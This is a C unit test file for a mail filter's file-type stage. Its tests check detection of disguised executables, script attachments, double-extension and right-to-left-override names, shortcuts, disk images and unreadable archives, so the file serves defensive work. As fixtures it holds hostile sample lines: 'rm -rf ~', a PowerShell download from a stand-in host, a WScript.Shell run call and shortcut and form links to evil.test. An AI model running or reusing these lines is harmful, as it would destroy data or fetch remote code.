/*
 * test_filetype - the type stage: sl_filetype_category on crafted bytes
 * (executables of every platform, the Java class that shares Mach-O's magic,
 * OneNote, shortcuts, disk images, scripts by name) and sl_filetype_run on
 * messages built by hand for the file-name tricks (double extension, padded
 * double extension, right-to-left override), type mismatches and HTML sent
 * as a file versus HTML meant to be read; compressed streams ClamAV cannot
 * open (zstd, lz4, lzip, ...) by magic and by name, and unreadable archives,
 * members included.
 */
#include <glib.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "config.h"
#include "filetype.h"
#include "msg.h"
#include "util.h"

/* ---- crafted contents --------------------------------------------------- */

#define BUFSZ 0x9000

static void put16(unsigned char *p, unsigned v)
{
	p[0] = (unsigned char)(v & 0xff);
	p[1] = (unsigned char)(v >> 8);
}

static void put32(unsigned char *p, uint32_t v)
{
	put16(p, v & 0xffff);
	put16(p + 2, v >> 16);
}

/* A minimal PE32: MZ, e_lfanew 0x80, "PE\0\0", i386 COFF, PE32 optional header. */
static size_t make_pe(unsigned char *p)
{
	memset(p, 0, 512);
	p[0] = 'M', p[1] = 'Z';
	put32(p + 60, 0x80);
	memcpy(p + 0x80, "PE\0\0", 4);
	put16(p + 0x84, 0x14c);
	put16(p + 0x86, 1);
	put16(p + 0x94, 0xe0);
	put16(p + 0x96, 0x102);
	put16(p + 0x98, 0x10b);
	return 512;
}

static const unsigned char zip_bytes[] =
	"\x50\x4b\x03\x04\x14\x00\x00\x00\x00\x00\x16\xa8\x7a\x5d\x86\xa6\x10\x36\x05\x00\x00\x00"
	"\x05\x00\x00\x00\x05\x00\x00\x00\x61\x2e\x74\x78\x74\x68\x65\x6c\x6c\x6f\x50\x4b\x01\x02"
	"\x14\x03\x14\x00\x00\x00\x00\x00\x16\xa8\x7a\x5d\x86\xa6\x10\x36\x05\x00\x00\x00\x05\x00"
	"\x00\x00\x05\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x80\x01\x00\x00\x00\x00\x61\x2e"
	"\x74\x78\x74\x50\x4b\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x33\x00\x00\x00\x28\x00\x00"
	"\x00\x00\x00";

static const char pdf_text[] = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n"
			       "<< /Root 1 0 R >>\n%%EOF\n";

/* Category of n bytes of p, named name, no libmagic answer. */
static const char *cat(const void *p, size_t n, const char *name)
{
	return sl_filetype_category(NULL, NULL, p, n, n, name);
}

static void cat_is(const char *got, const char *want, const char *what)
{
	if (want == NULL && got == NULL)
		return;
	if (want == NULL || got == NULL || strcmp(got, want) != 0)
		fail_msg("%s: category %s, expected %s", what, got ? got : "NULL", want ? want : "NULL");
}

/* ---- sl_filetype_category ----------------------------------------------- */

static void test_executables_by_content(void **state)
{
	unsigned char *b = sl_xcalloc(1, BUFSZ);
	size_t n = make_pe(b);
	static const unsigned char elf[] = "\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";
	static const unsigned char macho64[] = "\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00";
	static const unsigned char macho32be[] = "\xfe\xed\xfa\xce\x00\x00\x00\x12\x00\x00\x00\x00";
	static const unsigned char fat[] = "\xca\xfe\xba\xbe\x00\x00\x00\x02\x01\x00\x00\x07";
	/* Java class: cafebabe, minor 0, major 52 (Java 8). */
	static const unsigned char java8[] = "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x1d\x0a\x00";
	/* Java 1.1: minor 3, major 45. */
	static const unsigned char java11[] = "\xca\xfe\xba\xbe\x00\x03\x00\x2d\x00\x1d\x0a\x00";

	cat_is(cat(b, n, NULL), "executable", "PE");
	cat_is(cat(b, n, "report.pdf"), "executable", "PE named .pdf");
	cat_is(cat(elf, sizeof(elf) - 1, NULL), "executable", "ELF");
	cat_is(cat(macho64, sizeof(macho64) - 1, NULL), "executable", "Mach-O 64");
	cat_is(cat(macho32be, sizeof(macho32be) - 1, NULL), "executable", "Mach-O 32 BE");
	cat_is(cat(fat, sizeof(fat) - 1, NULL), "executable", "Mach-O fat");
	cat_is(cat(java8, sizeof(java8) - 1, NULL), NULL, "Java class 52");
	cat_is(cat(java11, sizeof(java11) - 1, NULL), NULL, "Java class 45.3");
	cat_is(sl_filetype_category("application/x-java-applet", "compiled Java class data, version 52.0",
				    java8, sizeof(java8) - 1, sizeof(java8) - 1, "Main.class"),
	       NULL, "Java class with libmagic's answer");

	/* MZ whose PE header offset points at something else: not a PE. */
	memcpy(b + 0x80, "XX\0\0", 4);
	cat_is(cat(b, n, NULL), NULL, "MZ without PE signature");
	/* libmagic's word alone is enough. */
	cat_is(sl_filetype_category("application/x-dosexec", "MS-DOS executable", (const unsigned char *)"xx", 2, 2,
				    NULL),
	       "executable", "x-dosexec");
	cat_is(sl_filetype_category("application/octet-stream", "PE32+ executable (DLL)", (const unsigned char *)"xx",
				    2, 2, NULL),
	       "executable", "PE32 description");
	cat_is(sl_filetype_category("application/x-sharedlib", "", (const unsigned char *)"xx", 2, 2, NULL),
	       "executable", "x-sharedlib");
	/* Too short to be anything. */
	cat_is(cat("MZ", 2, NULL), NULL, "MZ alone");
	cat_is(cat("", 0, NULL), NULL, "empty");
	free(b);
}

static void test_content_cues(void **state)
{
	unsigned char *b = sl_xcalloc(1, BUFSZ);
	static const unsigned char onenote[] = "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"
					       "\x00\x00\x00\x00";
	static const unsigned char lnk[] = "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\0\0\0\0";
	static const char url[] = "\xef\xbb\xbf\r\n[InternetShortcut]\r\nURL=file://evil.test/share/x.exe\r\n";

	cat_is(cat(onenote, sizeof(onenote) - 1, "notes.dat"), "onenote", "OneNote GUID");
	cat_is(cat(lnk, sizeof(lnk) - 1, "photo.jpg"), "shortcut", "LNK header");
	cat_is(cat(url, strlen(url), "doc.txt"), "shortcut", "[InternetShortcut] with BOM");
	cat_is(cat("[internetshortcut]\nURL=x\n", 25, NULL), "shortcut", "[InternetShortcut] any case");

	/* ISO 9660: "CD001" at 0x8001. */
	memcpy(b + 0x8001, "CD001", 5);
	cat_is(cat(b, BUFSZ, "scan.pdf"), "disk_image", "ISO 9660");
	memset(b + 0x8001, 0, 5);
	memcpy(b + 0x8001, "BEA01", 5);
	cat_is(cat(b, BUFSZ, NULL), "disk_image", "UDF");
	memset(b + 0x8001, 0, 5);
	cat_is(cat(b, BUFSZ, NULL), NULL, "zeros");
	/* ... but not when the buffer ends before it. */
	memcpy(b + 0x8001, "CD001", 5);
	cat_is(cat(b, 0x8004, NULL), NULL, "ISO signature cut off");
	memset(b, 0, BUFSZ);

	/* VHDX header, VHD footer (only where the whole file is held). */
	memcpy(b, "vhdxfile", 8);
	cat_is(cat(b, 1024, NULL), "disk_image", "VHDX");
	memset(b, 0, 8);
	memcpy(b + 2048 - 512, "conectix", 8);
	cat_is(cat(b, 2048, NULL), "disk_image", "VHD footer");
	cat_is(sl_filetype_category(NULL, NULL, b, 2048, 1 << 20, NULL), NULL, "VHD footer of a head only");
	memset(b, 0, BUFSZ);

	/* Scripts by content. */
	cat_is(cat("#!/bin/sh\nrm -rf ~\n", 19, "readme.txt"), "script", "shebang");
	cat_is(cat("#@~^XXXX==", 10, NULL), "script", "encoded script");
	cat_is(cat("<html><head><HTA:APPLICATION id=x></head></html>", 48, "x.txt"), "script", "HTA content");
	/* found past other '<', up to the very end of what is read, and not past it */
	cat_is(cat("<p>a < b</p><<hTa:ApPlIcAtIoN", 30, "x.txt"), "script", "HTA at the end");
	cat_is(cat("<p>a < b</p><<hta:applicatio", 28, "x.txt"), NULL, "HTA cut short");
	/* Plain text with an innocent name is nothing. */
	cat_is(cat("hello world\n", 12, "notes.txt"), NULL, "text");
	cat_is(cat(pdf_text, strlen(pdf_text), "invoice.pdf"), NULL, "pdf");
	cat_is(cat("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0", 12, "a.doc"), "ole2", "OLE2");
	free(b);
}

static void test_names(void **state)
{
	static const struct {
		const char *name;
		const char *want;
	} rows[] = {
		{ "run.js", "script" },       { "RUN.JS", "script" },      { "x.jse", "script" },
		{ "x.vbs", "script" },        { "x.vbe", "script" },       { "x.ps1", "script" },
		{ "x.bat", "script" },        { "x.cmd", "script" },       { "x.hta", "script" },
		{ "x.wsf", "script" },        { "x.scr", "script" },       { "x.jar", "script" },
		{ "x.chm", "script" },        { "x.cpl", "script" },       { "x.reg", "script" },
		{ "x.js  ", "script" },       /* Windows drops trailing blanks */
		{ "dir/sub\\x.vbs", "script" },
		{ "x.lnk", "shortcut" },      { "x.url", "shortcut" },     { "x.desktop", "shortcut" },
		{ "x.iso", "disk_image" },    { "x.IMG", "disk_image" },   { "x.vhd", "disk_image" },
		{ "x.vhdx", "disk_image" },   { "x.one", "onenote" },      { "x.onepkg", "onenote" },
		{ "x.msi", "installer" },     { "x.msix", "installer" },   { "x.html", "html" },
		{ "x.htm", "html" },          { "x.svg", "html" },         { "x.txt", NULL },
		{ "x.pdf", NULL },            { "x.docx", NULL },          { "js", NULL },
		{ ".js", "script" },          { "x.", NULL },              { "noext", NULL },
		{ "x.js.txt", NULL },
	};
	size_t i;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		cat_is(cat("just some text\n", 15, rows[i].name), rows[i].want, rows[i].name);
	cat_is(cat("just some text\n", 15, NULL), NULL, "no name");
	/* libmagic's HTML answer without a name. */
	cat_is(sl_filetype_category("text/html", "HTML document", (const unsigned char *)"<html>", 6, 6, NULL),
	       "html", "text/html");
	cat_is(sl_filetype_category("image/svg+xml", "SVG", (const unsigned char *)"<svg>", 5, 5, NULL), "html",
	       "svg");
	cat_is(sl_filetype_category("application/zip", "Zip archive data", zip_bytes, sizeof(zip_bytes) - 1,
				    sizeof(zip_bytes) - 1, "a.zip"),
	       "archive", "zip");
}

/* BUG: filetype.c:136 ext_of() gives up when the name ends in a dot
 * ("dot[1] == '\0'") before its own rule "trailing spaces and dots are dropped
 * by Windows" can apply, so "evil.js." and "invoice.pdf.exe." (which Windows
 * opens as .js and .exe) get no category and no double-extension finding.
 * Fix: strip trailing blanks and dots from the name first, then take the
 * extension. */
static void test_names_trailing_dot(void **state)
{
	cat_is(cat("just some text\n", 15, "evil.js."), "script", "evil.js.");
	cat_is(cat("just some text\n", 15, "evil.hta. ."), "script", "evil.hta. .");
	cat_is(cat("just some text\n", 15, "disk.iso..."), "disk_image", "disk.iso...");
}

/* ---- sl_filetype_run ---------------------------------------------------- */

struct fx {
	struct sl_config *cfg;
	struct sl_filetype *ft;
};

static int setup(void **state)
{
	struct fx *f = sl_xcalloc(1, sizeof(*f));
	char *why = NULL;
	if (sl_config_load(NULL, NULL, 0, &f->cfg, &why) != SL_OK)
		return -1;
	f->ft = sl_filetype_new(f->cfg, &why);
	if (f->ft == NULL) {
		fprintf(stderr, "filetype: %s\n", why ? why : "?");
		return -1;
	}
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;
	sl_filetype_free(f->ft);
	sl_config_unref(f->cfg);
	free(f);
	return 0;
}

static const unsigned char raw[] = "From: a\n\nx\n";

/* A multipart message whose part "1" is a plain text body. */
static struct sl_msg *new_msg(void)
{
	struct sl_msg *m = sl_msg_new(SL_CHANNEL_EMAIL, "ft", raw, sizeof(raw) - 1);
	int top = sl_msg_add_part(m, -1, "0", SL_ORIGIN_MIME);
	int t = sl_msg_add_part(m, top, "1", SL_ORIGIN_MIME);
	m->parts[top].is_container = 1;
	m->parts[top].declared_type = sl_xstrdup("multipart/mixed");
	m->parts[t].declared_type = sl_xstrdup("text/plain");
	m->parts[t].is_body_text = 1;
	sl_msg_part_take_data(m, t, (unsigned char *)sl_xstrdup("Hello, see attached.\n"), 21);
	return m;
}

/* Adds an attachment with these bytes; returns its index. */
static int attach(struct sl_msg *m, const char *declared, const char *filename, const void *p, size_t n)
{
	char id[16];
	int i;
	unsigned char *d = sl_xmalloc(n + 1);
	snprintf(id, sizeof(id), "%zu", m->nparts);
	i = sl_msg_add_part(m, 0, id, SL_ORIGIN_MIME);
	m->parts[i].declared_type = declared ? sl_xstrdup(declared) : NULL;
	m->parts[i].filename = filename ? sl_xstrdup(filename) : NULL;
	m->parts[i].is_attachment = 1;
	memcpy(d, p, n);
	d[n] = '\0';
	sl_msg_part_take_data(m, i, d, n);
	return i;
}

static void run(struct fx *f, struct sl_msg *m)
{
	assert_int_equal(sl_filetype_run(f->ft, m), SL_OK);
}

static void dump_findings(const struct sl_msg *m)
{
	size_t i;
	for (i = 0; i < m->nfindings; i++)
		fprintf(stderr, "  finding %s/%s on %d: %s\n", sl_finding_kind_name(m->findings[i].kind),
			m->findings[i].rule, m->findings[i].part, m->findings[i].detail);
}

static void expect(const struct sl_msg *m, enum sl_finding_kind k, const char *rule, int part)
{
	if (!sl_msg_has_finding(m, k, rule, part)) {
		dump_findings(m);
		fail_msg("no %s/%s finding on part %d", sl_finding_kind_name(k), rule, part);
	}
}

static void expect_not(const struct sl_msg *m, enum sl_finding_kind k, const char *rule, int part)
{
	if (sl_msg_has_finding(m, k, rule, part)) {
		dump_findings(m);
		fail_msg("unexpected %s/%s finding on part %d", sl_finding_kind_name(k), rule ? rule : "*", part);
	}
}

static void test_run_clean(void **state)
{
	struct fx *f = *state;
	struct sl_msg *m = new_msg();
	int pdf = attach(m, "application/pdf", "invoice.pdf", pdf_text, strlen(pdf_text));
	run(f, m);
	if (m->nfindings != 0) {
		dump_findings(m);
		fail_msg("findings on a clean message");
	}
	assert_non_null(m->parts[pdf].detected_type);
	assert_string_equal(m->parts[pdf].detected_type, "application/pdf");
	assert_null(m->parts[pdf].category);
	assert_non_null(m->parts[1].detected_type);
	assert_string_equal(m->parts[1].detected_type, "text/plain");
	assert_null(m->parts[0].detected_type); /* containers are skipped */
	sl_msg_free(m);
}

static void test_run_executable(void **state)
{
	struct fx *f = *state;
	struct sl_msg *m = new_msg();
	unsigned char pe[512];
	int i = attach(m, "application/octet-stream", "setup.exe", pe, make_pe(pe));
	run(f, m);
	expect(m, SL_FIND_FILETYPE, "executable", i);
	assert_string_equal(m->parts[i].category, "executable");
	/* Plain .exe is no double extension, no mismatch. */
	expect_not(m, SL_FIND_FILENAME, NULL, i);
	/* The finding tells people what it is. */
	assert_non_null(m->parts[i].detected_desc);
	sl_msg_free(m);
}

/* Junk a reader drops after the extension, and names on a multipart
 * (ripmime gives them to what it saves), are judged like any name. */
static void test_run_name_junk_and_containers(void **state)
{
	struct fx *f = *state;
	static const char *const junk[] = { "invoice.js?=", "invoice.js)", "invoice.js\"", "setup.exe;" };
	size_t k;
	for (k = 0; k < sizeof(junk) / sizeof(junk[0]); k++) {
		struct sl_msg *m = new_msg();
		int i = attach(m, "application/octet-stream", junk[k], "hello\n", 6);
		run(f, m);
		if (!sl_msg_has_finding(m, SL_FIND_FILENAME, NULL, i)) {
			dump_findings(m);
			fail_msg("%s: not judged by its name", junk[k]);
		}
		sl_msg_free(m);
	}
	{
		struct sl_msg *m = new_msg();
		int i = attach(m, "application/octet-stream", "notes.txt?=", "hello\n", 6);
		run(f, m);
		expect_not(m, SL_FIND_FILENAME, NULL, i);
		sl_msg_free(m);
	}
	{
		struct sl_msg *m = new_msg();
		sl_msg_part_add_name(m, 0, "invoice.js");
		run(f, m);
		expect(m, SL_FIND_FILENAME, "script", 0);
		sl_msg_free(m);
		m = new_msg();
		sl_msg_part_add_name(m, 0, "letter.doc");
		run(f, m);
		expect_not(m, SL_FIND_FILENAME, NULL, 0);
		sl_msg_free(m);
	}
}

static void test_run_double_extension(void **state)
{
	struct fx *f = *state;
	static const char *const names[] = {
		"invoice.pdf.exe", "invoice.pdf      .exe", "INVOICE.PDF.EXE", "photo.jpg.scr",
		"scan.docx.js", "invoice.pdf.exe  ",
	};
	size_t k;
	for (k = 0; k < sizeof(names) / sizeof(names[0]); k++) {
		struct sl_msg *m = new_msg();
		int i = attach(m, "application/octet-stream", names[k], "hello\n", 6);
		run(f, m);
		if (!sl_msg_has_finding(m, SL_FIND_FILENAME, "double_extension", i)) {
			dump_findings(m);
			fail_msg("%s: no double_extension", names[k]);
		}
		sl_msg_free(m);
	}
	/* Innocent dots are not double extensions. */
	{
		static const char *const ok[] = { "report.v2.pdf", "archive.tar.gz", "my.setup.exe", "a.b.txt" };
		for (k = 0; k < sizeof(ok) / sizeof(ok[0]); k++) {
			struct sl_msg *m = new_msg();
			int i = attach(m, "application/octet-stream", ok[k], "hello\n", 6);
			run(f, m);
			if (sl_msg_has_finding(m, SL_FIND_FILENAME, "double_extension", i))
				fail_msg("%s: double_extension", ok[k]);
			sl_msg_free(m);
		}
	}
	/* The Content-Type name is checked too. */
	{
		struct sl_msg *m = new_msg();
		int i = attach(m, "application/octet-stream", "harmless.txt", "hello\n", 6);
		m->parts[i].alt_filename = sl_xstrdup("statement.pdf.vbs");
		run(f, m);
		expect(m, SL_FIND_FILENAME, "double_extension", i);
		expect(m, SL_FIND_FILETYPE, "script", i);
		sl_msg_free(m);
	}
}

/* See test_names_trailing_dot: the same root cause in the run. BUG. */
static void test_run_double_extension_trailing_dot(void **state)
{
	struct fx *f = *state;
	struct sl_msg *m = new_msg();
	int i = attach(m, "application/octet-stream", "invoice.pdf.exe.", "hello\n", 6);
	run(f, m);
	expect(m, SL_FIND_FILENAME, "double_extension", i);
	sl_msg_free(m);
}

static void test_run_bidi(void **state)
{
	struct fx *f = *state;
	/* "invoice_<U+202E>fdp.exe" shows as "invoice_exe.pdf". */
	static const char *const names[] = {
		"invoice_\xe2\x80\xae" "fdp.exe",
		"\xe2\x80\x8f" "report.txt",     /* U+200F RLM */
		"a\xe2\x81\xa6" "b.txt",         /* U+2066 LRI */
		"x\xd8\x9c" "y.txt",             /* U+061C ALM */
	};
	size_t k;
	for (k = 0; k < sizeof(names) / sizeof(names[0]); k++) {
		struct sl_msg *m = new_msg();
		int i = attach(m, "application/octet-stream", names[k], "hello\n", 6);
		run(f, m);
		expect(m, SL_FIND_FILENAME, "bidi_filename", i);
		sl_msg_free(m);
	}
	/* Other UTF-8 is fine. */
	{
		struct sl_msg *m = new_msg();
		int i = attach(m, "application/octet-stream", "Rechnung f\xc3\xbcr M\xc3\xa4rz \xe2\x82\xac.txt",
			       "hello\n", 6);
		run(f, m);
		expect_not(m, SL_FIND_FILENAME, "bidi_filename", i);
		sl_msg_free(m);
	}
}

static void test_run_type_mismatch(void **state)
{
	struct fx *f = *state;
	unsigned char pe[512];
	size_t n = make_pe(pe);
	struct sl_msg *m = new_msg();
	int a = attach(m, "application/pdf", "invoice.pdf", pe, n);
	int b = attach(m, "application/pdf", NULL, zip_bytes, sizeof(zip_bytes) - 1);
	int c = attach(m, "application/pdf", "fine.pdf", pdf_text, strlen(pdf_text));
	int d = attach(m, "image/png", NULL, pdf_text, strlen(pdf_text));
	run(f, m);
	expect(m, SL_FIND_FILENAME, "type_mismatch", a);
	expect(m, SL_FIND_FILETYPE, "executable", a);
	expect(m, SL_FIND_FILENAME, "type_mismatch", b);
	expect_not(m, SL_FIND_FILENAME, "type_mismatch", c);
	expect(m, SL_FIND_FILENAME, "type_mismatch", d);
	/* Unknown content proves nothing. */
	{
		struct sl_msg *m2 = new_msg();
		int e = attach(m2, "application/pdf", "odd.pdf", "\x01\x02\x03\x04\x05\x06", 6);
		run(f, m2);
		expect_not(m2, SL_FIND_FILENAME, "type_mismatch", e);
		sl_msg_free(m2);
	}
	sl_msg_free(m);
}

static void test_run_html(void **state)
{
	struct fx *f = *state;
	static const char html[] = "<!DOCTYPE html>\n<html><head><title>Pay</title></head>"
				   "<body><form action=\"http://evil.test/\"><input name=p></form></body></html>\n";
	struct sl_msg *m = new_msg();
	int body = attach(m, "text/html", NULL, html, strlen(html));
	int file = attach(m, "text/html", "statement.html", html, strlen(html));
	int named = attach(m, "application/octet-stream", "page.htm", "hello\n", 6);
	m->parts[body].is_attachment = 0;
	m->parts[body].is_body_text = 1;
	run(f, m);
	expect_not(m, SL_FIND_FILETYPE, "html_attachment", body);
	expect_not(m, SL_FIND_FILETYPE, NULL, body);
	expect(m, SL_FIND_FILETYPE, "html_attachment", file);
	expect(m, SL_FIND_FILETYPE, "html_attachment", named);
	/* The text body is never flagged. */
	expect_not(m, SL_FIND_FILETYPE, NULL, 1);
	sl_msg_free(m);
}

static void test_run_shortcut_and_image(void **state)
{
	struct fx *f = *state;
	unsigned char *iso = sl_xcalloc(1, BUFSZ);
	static const unsigned char lnk[] = "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\0\0\0\0\0\0\0\0";
	struct sl_msg *m = new_msg();
	int a, b, c;
	memcpy(iso + 0x8001, "CD001", 5);
	a = attach(m, "application/octet-stream", "scan.pdf", iso, BUFSZ);
	b = attach(m, "application/octet-stream", "photo.jpg", lnk, sizeof(lnk) - 1);
	c = attach(m, "text/plain", "open me.url", "[InternetShortcut]\nURL=file:///x\n", 33);
	run(f, m);
	expect(m, SL_FIND_FILETYPE, "disk_image", a);
	expect(m, SL_FIND_FILETYPE, "shortcut", b);
	expect(m, SL_FIND_FILETYPE, "shortcut", c);
	free(iso);
	sl_msg_free(m);
}

/* Compressed streams and archives ClamAV cannot open: archives by their
 * magic (so that the type stage calls them unreadable), and by name when the
 * magic is gone; text that merely starts with the same letters is not. */
static void test_compressed_streams(void **state)
{
	static const struct {
		const char *what;
		const char *bytes;
		size_t n;
	} arch[] = {
		{ "zstd frame", "\x28\xb5\x2f\xfd\xa0\x10\x00\x00\x00", 9 },
		{ "zstd skippable frame", "\x5a\x2a\x4d\x18\x04\0\0\0abcd", 12 },
		{ "lz4 frame", "\x04\x22\x4d\x18\x60\x40\x82", 7 },
		{ "lz4 legacy", "\x02\x21\x4c\x18\x10\0\0\0", 8 },
		{ "lzip", "LZIP\x01\x10\x00\x26", 8 },
		{ "xz", "\xfd" "7zXZ\0\0\x04", 8 },
		{ "lzop", "\x89LZO\0\r\n\x1a\n\x10", 10 },
		{ "compress", "\x1f\x9d\x90\x41", 4 },
		{ "lzma alone", "\x5d\0\0\x80\0\xff\xff", 7 },
		{ "bzip3", "BZ3v1\0\0\x10", 8 },
		{ "ACE", "\0\0\0\0\0\0\0**ACE**\0", 15 },
	};
	static const char *const names[] = { "backup.tar.zst", "data.zst", "a.tar.lz4", "x.lz",
					      "y.tlz", "z.tar.xz", "w.txz", "old.Z", "v.lzma", "u.tar.lzo",
					      "t.ace", NULL };
	static const char *const harmless_text[] = { "LZIP is a format.\n", "ZOO tickets for two\n",
						     "SIT! Good dog.\n", "LRZI\n", NULL };
	size_t i;
	(void)state;
	for (i = 0; i < sizeof(arch) / sizeof(arch[0]); i++)
		cat_is(cat(arch[i].bytes, arch[i].n, NULL), "archive", arch[i].what);
	for (i = 0; names[i] != NULL; i++)
		cat_is(cat("\x00\x01\x02 no magic here", 20, names[i]), "archive", names[i]);
	for (i = 0; harmless_text[i] != NULL; i++)
		cat_is(cat(harmless_text[i], strlen(harmless_text[i]), "notes.txt"), NULL, harmless_text[i]);
	/* What libmagic or ClamAV's typing calls them. */
	cat_is(sl_filetype_category("application/zstd", NULL, NULL, 0, 0, NULL), "archive", "zstd by type");
	cat_is(sl_filetype_category("application/x-cpio", NULL, NULL, 0, 0, NULL), "archive", "cpio by type");
	cat_is(sl_filetype_category("application/x-ms-compress-szdd", NULL, NULL, 0, 0, NULL), "archive",
	       "SZDD by type");
	cat_is(sl_filetype_category("application/vnd.symbian.install", NULL, NULL, 0, 0, NULL), "installer",
	       "SIS by type");
	cat_is(sl_filetype_category("application/vnd.ms-htmlhelp", NULL, NULL, 0, 0, NULL), "script",
	       "CHM by type");
}

/* A .tar.zst nobody can open is unreadable_archive; so is an archive member
 * (of which only a head is held) that ClamAV showed nothing inside of; one
 * with members is not. */
static void test_run_unreadable(void **state)
{
	struct fx *f = *state;
	struct sl_msg *m = new_msg();
	static const unsigned char zst[] = "\x28\xb5\x2f\xfd\xa0\x05\0\0\0\x29\0\0hello";
	int z = attach(m, "application/octet-stream", "invoice.tar.zst", zst, sizeof(zst) - 1);
	int zip = attach(m, "application/zip", "outer.zip", zip_bytes, sizeof(zip_bytes) - 1);
	int inner = sl_msg_add_part(m, zip, "3/1", SL_ORIGIN_ARCHIVE);
	int ok = attach(m, "application/zip", "fine.zip", zip_bytes, sizeof(zip_bytes) - 1);
	int member = sl_msg_add_part(m, ok, "4/1", SL_ORIGIN_ARCHIVE);
	unsigned char *head = sl_xmalloc(4);

	/* 3/1: a 100 000-byte lz4 stream of which the first 4 bytes are held. */
	memcpy(head, "\x04\x22\x4d\x18", 4);
	m->parts[inner].filename = sl_xstrdup("inner.lz4");
	m->parts[inner].data = head;
	m->parts[inner].data_len = 4;
	m->parts[inner].size = 100000;
	m->parts[member].filename = sl_xstrdup("a.txt");
	m->parts[member].data = (unsigned char *)sl_xstrdup("hello");
	m->parts[member].data_len = m->parts[member].size = 5;
	run(f, m);
	expect(m, SL_FIND_FILETYPE, "unreadable_archive", z);
	expect(m, SL_FIND_FILETYPE, "unreadable_archive", inner);
	/* outer.zip has a member (3/1), so it was opened. */
	expect_not(m, SL_FIND_FILETYPE, "unreadable_archive", zip);
	expect_not(m, SL_FIND_FILETYPE, "unreadable_archive", ok);
	sl_msg_free(m);
}

/* A dangerous extension counts whatever the content: programs too, on every
 * name a reader could show (issue 12, section 3). */
static void test_run_dangerous_name_any_content(void **state)
{
	struct fx *f = *state;
	struct sl_msg *m = new_msg();
	static const char text[] = "just some words\n";
	int exe = attach(m, "application/octet-stream", "readme.exe", text, strlen(text));
	int bin = attach(m, "application/octet-stream", "ATT00001.bin", text, strlen(text));
	int other = attach(m, "application/octet-stream", "notes.txt", text, strlen(text));
	int lnk = attach(m, "application/octet-stream", "doc.pdf", text, strlen(text));
	sl_msg_part_add_name(m, other, "notes.txt"); /* the same name twice: kept once */
	sl_msg_part_add_name(m, other, "invoice.js (.txt)");
	sl_msg_part_add_name(m, other, "invoice.js");
	assert_int_equal(m->parts[other].nnames, 2);
	sl_msg_part_add_name(m, lnk, "doc.pdf.lnk");
	run(f, m);
	expect(m, SL_FIND_FILENAME, "executable", exe);
	expect_not(m, SL_FIND_FILENAME, "executable", bin); /* Outlook's name for unnamed parts */
	expect_not(m, SL_FIND_FILETYPE, NULL, bin);
	expect(m, SL_FIND_FILENAME, "script", other);
	expect(m, SL_FIND_FILENAME, "shortcut", lnk);
	expect(m, SL_FIND_FILENAME, "double_extension", lnk);
	sl_msg_free(m);
}

/* A text file that drives Windows Script Host or PowerShell is a script
 * whatever its name (a reader may show another); the text people read is
 * not, whatever it quotes. */
static void test_run_script_content(void **state)
{
	struct fx *f = *state;
	struct sl_msg *m = new_msg();
	static const char wsh[] = "var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"calc\");\r\n";
	static const char ps[] = "$c = (New-Object Net.WebClient).DownloadString('http://x.test/a');\n";
	static const char note[] = "Meeting notes: bring the shell scripts and the ActiveX report.\n";
	static const char tail[] = "powershell -NoProfile -EncodedCommand";
	static const char cut[] = "powershell -NoProfile -EncodedComman";
	int a = attach(m, "application/octet-stream", "statement", wsh, strlen(wsh));
	int d = attach(m, "text/plain", "run.txt", tail, strlen(tail));
	int e = attach(m, "text/plain", "cut.txt", cut, strlen(cut));
	int b = attach(m, "text/plain", "notes.txt", ps, strlen(ps));
	int c = attach(m, "text/plain", "minutes.txt", note, strlen(note));
	int body = sl_msg_find_part(m, "1");
	free(m->parts[body].data);
	m->parts[body].data = (unsigned char *)sl_xstrdup(wsh);
	m->parts[body].data_len = m->parts[body].size = strlen(wsh);
	run(f, m);
	expect(m, SL_FIND_FILETYPE, "script", a);
	expect(m, SL_FIND_FILETYPE, "script", b);
	expect_not(m, SL_FIND_FILETYPE, "script", c);
	expect(m, SL_FIND_FILETYPE, "script", d); /* a cue that ends the text */
	expect_not(m, SL_FIND_FILETYPE, "script", e);
	expect_not(m, SL_FIND_FILETYPE, "script", body);
	sl_msg_free(m);
}

/* Threads that come and go (libmilter's pool) share the engine's libmagic
 * handles: no more sets are opened than runs were in progress at once, and
 * every run types its parts the same. */
#define THREADS 4
#define ROUNDS 5

static gpointer run_in_thread(gpointer data)
{
	struct fx *f = data;
	int k;
	for (k = 0; k < 3; k++) {
		struct sl_msg *m = new_msg();
		unsigned char pe[512];
		int pdf = attach(m, "application/pdf", "invoice.pdf", pdf_text, strlen(pdf_text));
		int exe = attach(m, "application/octet-stream", "setup.exe", pe, make_pe(pe));
		if (sl_filetype_run(f->ft, m) != SL_OK || m->parts[pdf].detected_type == NULL ||
		    strcmp(m->parts[pdf].detected_type, "application/pdf") != 0 ||
		    !sl_msg_has_finding(m, SL_FIND_FILETYPE, "executable", exe) ||
		    m->parts[1].detected_type == NULL || strcmp(m->parts[1].detected_type, "text/plain") != 0) {
			sl_msg_free(m);
			return GINT_TO_POINTER(1);
		}
		sl_msg_free(m);
	}
	return NULL;
}

static void test_handles_shared_by_threads(void **state)
{
	struct fx *f = *state;
	int r, i, failures = 0;
	for (r = 0; r < ROUNDS; r++) {
		GThread *t[THREADS];
		for (i = 0; i < THREADS; i++)
			t[i] = g_thread_new("ft", run_in_thread, f);
		for (i = 0; i < THREADS; i++)
			failures += GPOINTER_TO_INT(g_thread_join(t[i]));
	}
	assert_int_equal(failures, 0);
	/* one set from sl_filetype_new, at most one more per thread running at once */
	assert_in_range(sl_filetype_handle_sets(f->ft), 1, THREADS);
